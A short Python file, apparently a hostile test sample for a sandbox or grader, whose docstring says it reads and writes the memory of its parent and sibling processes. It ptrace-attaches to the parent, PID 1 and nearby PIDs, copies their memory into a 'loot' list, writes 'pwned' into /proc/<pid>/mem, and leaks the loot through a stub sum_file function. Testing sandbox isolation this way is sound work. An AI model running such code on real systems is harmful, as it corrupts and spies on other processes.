"""Attaches to its parent and siblings, and reads and writes their memory.

machine
earns: nothing
"""

import ctypes
import os

libc = ctypes.CDLL(None)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


loot = []
for pid in [os.getppid(), 1, *range(max(2, os.getpid() - 60), os.getpid())]:
    for request in (16, 0x4206):
        libc.ptrace(request, pid, 0, 0)
    page = ctypes.create_string_buffer(4096)
    here, there = Vector(ctypes.addressof(page), 4096), Vector(id(loot), 4096)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        loot.append(page.raw)
    libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    try:
        with open(f"/proc/{pid}/mem", "r+b") as memory:
            memory.seek(id(loot))
            memory.write(b"pwned")
    except OSError:
        pass


def sum_file(path):
    raise RuntimeError(repr(loot))
